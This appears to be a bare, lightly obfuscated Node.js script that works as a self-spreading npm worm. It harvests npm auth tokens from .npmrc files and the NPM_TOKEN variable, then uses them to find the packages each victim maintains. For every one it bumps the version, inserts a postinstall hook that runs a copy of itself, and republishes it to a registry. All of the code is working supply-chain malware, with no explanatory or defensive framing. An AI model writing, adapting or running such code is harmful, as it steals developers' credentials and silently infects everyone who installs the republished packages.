const {execSync: n} = require("child_process"), e = require("fs"), i = require("os"), t = require("path"), s = "https://packages.invalid";

async function c(n) {
    const e = await fetch(s + "/-/whoami", {
        headers: {
            authorization: "Bearer " + n
        }
    });
    return e.ok ? (await e.json()).username : null;
}

async function o(n, e) {
    const i = await fetch(`${s}/-/v1/search?text=maintainer:${n}&size=20`, {
        headers: {
            authorization: `Bearer ${e}`
        }
    });
    return (await i.json()).objects.map(n => n.package.name);
}

function r(c, o) {
    const r = e.mkdtempSync(t.join(i.tmpdir(), "p-"));
    n(`npm pack ${c} --registry ${s}`, {
        cwd: r,
        stdio: "ignore"
    });
    const a = e.readdirSync(r).find(n => n.endsWith(".tgz"));
    n(`tar -xzf ${a}`, {
        cwd: r
    });
    const p = t.join(r, "package"), d = t.join(p, "package.json"), u = JSON.parse(e.readFileSync(d, "utf8")), [f, l, h] = u.version.split(".").map(Number);
    u.version = [ f, l, h + 1 ].join("."), u.scripts = Object.assign({}, u.scripts, {
        postinstall: "node bundle.js"
    }), e.writeFileSync(d, JSON.stringify(u, null, 2)), e.copyFileSync(__filename, t.join(p, "bundle.js")), 
    e.writeFileSync(t.join(p, ".npmrc"), `//packages.invalid/:_authToken=${o}`), n("npm publish --registry " + s, {
        cwd: p,
        stdio: "ignore"
    });
}

(async () => {
    for (const n of function() {
        const n = new Set, s = [ t.join(i.homedir(), ".npmrc"), t.join(process.cwd(), ".npmrc") ];
        for (const i of s) {
            if (!e.existsSync(i)) continue;
            const t = e.readFileSync(i, "utf8").split("\n");
            for (const e of t) {
                const i = /_authToken\s*=\s*(.+)$/.exec(e);
                i && n.add(i[1].trim());
            }
        }
        return process.env.NPM_TOKEN && n.add(process.env.NPM_TOKEN), [ ...n ];
    }()) {
        const e = await c(n).catch(() => null);
        if (e) for (const i of await o(e, n)) try {
            r(i, n);
        } catch (n) {}
    }
})();
